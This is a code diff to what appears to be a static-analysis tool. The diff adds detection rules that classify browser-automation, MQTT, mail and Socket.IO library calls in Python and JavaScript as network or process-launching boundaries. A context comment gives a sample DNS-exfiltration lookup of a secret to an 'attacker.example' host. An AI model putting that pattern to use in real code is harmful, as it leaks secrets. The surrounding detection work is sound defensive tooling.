@@ -247,6 +247,13 @@ const SOCKET_USE = ["connect", "connect_ex", "sendto"];
 const socketUse = (cls: string) => call(...SOCKET_USE.flatMap((m) => [`${cls}${RETURNED}.${m}`, `${cls}.${m}`]));
 /** asyncio event loops open connections too (`asyncio.get_running_loop().create_connection(...)`). */
 const EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
+/** Selenium's local drivers, each starting the browser's driver process (`webdriver.Chrome()`); `Remote` connects to a server. */
+const SELENIUM_LOCAL = ["Chrome", "Firefox", "Edge", "ChromiumEdge", "Safari", "Ie", "WebKitGTK", "WPEWebKit"];
+/** Playwright's packages, its browser types, and how each starts (a local browser process) or reaches (a connection) a browser. */
+const PLAYWRIGHT_PACKAGES = ["playwright", "playwright-core", "playwright-chromium", "playwright-firefox", "playwright-webkit", "@playwright/test"];
+const PLAYWRIGHT_BROWSERS = ["chromium", "firefox", "webkit"];
+const PLAYWRIGHT_LAUNCH = ["launch", "launchPersistentContext", "launchServer"];
+const PLAYWRIGHT_CONNECT = ["connect", "connectOverCDP"];
 /** requests' and httpx's module-level request functions. */
 const HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
 /** socket's name lookups, each a DNS query (`socket.gethostbyname(f"{secret}.attacker.example")`). */
@@ -394,6 +401,15 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   // paramiko: an SSH client connects (its construction is the one finding); a ProxyCommand runs a shell command.
   py("paramiko", client("SSHClient", "Transport"), "network"),
   py("paramiko", call("ProxyCommand"), "shell"),
+  // Browser automation: a browser (or Playwright's driver) is a process started on this machine; a remote one is a connection.
+  py("playwright.sync_api", client("sync_playwright"), "shell"),
+  py("playwright.async_api", client("async_playwright"), "shell"),
+  py("selenium.webdriver", client(...SELENIUM_LOCAL), "shell"),
+  py("selenium.webdriver", client("Remote"), "network"),
+  py("pyppeteer", call("launch", "launcher.launch"), "shell"),
+  py("pyppeteer", call("connect", "launcher.connect"), "network"),
+  // MQTT: a client connects to a broker (paho-mqtt).
+  py("paho.mqtt.client", call(...["connect", "connect_async"].map((m) => `Client${RETURNED}.${m}`)), "network"),
   // websocket-client
   py("websocket", { ...call("create_connection"), ...client("WebSocketApp"), ...inert("WebSocket"), ...call(`WebSocket${RETURNED}.connect`) }, "network"),
   // python-socks: a proxy object connects to the target through the proxy.
@@ -508,6 +524,15 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js("eventsource", call(DEFAULT, "EventSource"), "network", "new"),
   js(GLOBAL, call("EventSource"), "network", "new"),
   js("@grpc/grpc-js", client("Client", "Channel"), "network", "new"),
+  // Browser automation: a browser launched is a process on this machine; one connected to, a connection.
+  ...PLAYWRIGHT_PACKAGES.flatMap((m) => [js(m, call(...PLAYWRIGHT_BROWSERS.flatMap((b) => PLAYWRIGHT_LAUNCH.map((l) => `${b}.${l}`)), "_electron.launch", "_android.launchServer"), "shell"), js(m, call(...PLAYWRIGHT_BROWSERS.flatMap((b) => PLAYWRIGHT_CONNECT.map((c) => `${b}.${c}`)), "_android.connect"), "network")]),
+  ...["puppeteer", "puppeteer-core"].flatMap((m) => [js(m, call("launch"), "shell"), js(m, call("connect"), "network")]),
+  // selenium-webdriver: building a driver starts the browser's driver process (or connects to a server named by usingServer).
+  js("selenium-webdriver", client("Builder"), "shell", "new"),
+  // Mail, Socket.IO and MQTT: a transport sends to a server, a socket and a client connect.
+  js("nodemailer", client("createTransport"), "network"),
+  js("socket.io-client", call(DEFAULT, "io", "connect", "Manager"), "network"),
+  js("mqtt", call(DEFAULT, "connect", "connectAsync"), "network"),
   // JavaScript / TypeScript — code run from a string
   js(GLOBAL, call(...evaluatorsOf("javascript", GLOBAL)), "code"),
   ...EVALUATOR_MODULES.javascript.map((module) => js(module, call(...evaluatorsOf("javascript", module)), "code")),
